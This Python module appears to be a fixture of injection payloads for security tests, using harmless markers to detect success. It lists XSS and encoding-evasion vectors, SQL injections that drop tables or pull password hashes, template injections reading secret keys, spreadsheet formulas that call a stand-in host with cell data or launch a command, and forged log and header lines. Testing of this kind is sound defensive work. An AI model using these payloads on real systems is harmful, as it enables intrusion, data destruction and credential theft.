"""Injection payloads: markup, SQL, templates, formulas, log lines, headers.

A script calls `ran()`; an element has the attribute `data-inj`; a computed template or formula yields COMPUTED; a
forged log line contains LOGGED.
"""

from __future__ import annotations

COMPUTED = str(31337 * 31337)
LOGGED = "forged-line"
ELSEWHERE = "http://elsewhere.example"

HTML = (
    "<script data-inj>ran()</script>",
    "<img data-inj src=x onerror=ran()>",
    "<svg data-inj onload=ran()>",
    "<svg data-inj><animate onbegin=ran() attributeName=x dur=1s>",
    '" autofocus onfocus=ran() data-inj x="',
    "' autofocus onfocus=ran() data-inj x='",
    "` onmouseover=ran() data-inj `",
    '"><script data-inj>ran()</script>',
    "'><img data-inj src=x onerror=ran()>",
    "</title><script data-inj>ran()</script>",
    "</textarea><script data-inj>ran()</script>",
    "</script><script data-inj>ran()</script>",
    "--><script data-inj>ran()</script><!--",
    "]]><script data-inj>ran()</script>",
    "<iframe data-inj srcdoc='<script>parent.ran()</script>'></iframe>",
    "<a data-inj href=javascript:ran()>click</a>",
    f"<base data-inj href={ELSEWHERE}/>",
    f"<meta data-inj http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link data-inj rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<form data-inj action={ELSEWHERE}><button>Sign in</button></form>",
    f"<style data-inj>@import '{ELSEWHERE}/a.css'</style>",
    f"<object data-inj data={ELSEWHERE}></object>",
    "<details data-inj open ontoggle=ran()>",
    "<div data-inj hx-get=/batches hx-trigger=load>x</div>",
    "<div data-inj hx-on:htmx:load=ran()>x</div>",
    "<b data-inj style=animation-name:x onanimationstart=ran()>x</b>",
    "<math data-inj><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<ScRiPt data-inj>ran()</sCrIpT>",
    "<<script data-inj>ran()//<</script>",
    "&lt;script data-inj&gt;ran()&lt;/script&gt;",
    "&#60;script data-inj&#62;ran()&#60;/script&#62;",
    "\\u003cscript data-inj\\u003eran()\\u003c/script\\u003e",
    "%3Cscript data-inj%3Eran()%3C/script%3E",
    "+ADw-script data-inj+AD4-ran()+ADw-/script+AD4-",
    "＜script data-inj＞ran()＜/script＞",
    "<scr\u200bipt data-inj>ran()</scr\u200bipt>",
    "<x data-inj tabindex=1 onfocus=ran() id=x>#x",
    "javascript:ran()",
    "data:text/html,<script data-inj>ran()</script>",
)
SQL = (
    "'; DROP TABLE batches; --",
    "' OR '1'='1",
    "x' UNION SELECT password_hash FROM users --",
    '" OR ""="',
    "%' OR 1=1 /*",
    "\\'; DELETE FROM calls; --",
    "$$; DROP TABLE users; $$",
    'batch" OR name:* NEAR/2 x',
)
TEMPLATES = (
    "{{ 31337*31337 }}",
    "{% print(31337*31337) %}",
    "${31337*31337}",
    "#{31337*31337}",
    "<%= 31337*31337 %>",
    "{{ config.SECRET_KEY }}{{ ''.__class__.__mro__ }}",
)
FORMULAS = (
    "=31337*31337",
    "+31337*31337",
    "-31337*31337+cmd|' /C calc'!A0",
    "@SUM(31337*31337)",
    f'=HYPERLINK("{ELSEWHERE}?"&A1,"click")',
    "\t=31337*31337",
    "＝31337*31337",
    f'=WEBSERVICE("{ELSEWHERE}")',
)
LINES = (
    f"x\r\n2026-01-01 00:00:00 INFO portal: {LOGGED}",
    f"x\n{LOGGED} signed in as admin",
    f"x\r\nSet-Cookie: {LOGGED}=1\r\n\r\n<script data-inj>ran()</script>",
    f"x\x1b[2K{LOGGED}",
    f"x\u2028{LOGGED}",
)

# Ordered so that the first few are of different kinds.
KINDS = (HTML, SQL, TEMPLATES, FORMULAS, LINES)
PAYLOADS = tuple(kind[turn] for turn in range(max(map(len, KINDS))) for kind in KINDS if turn < len(kind))
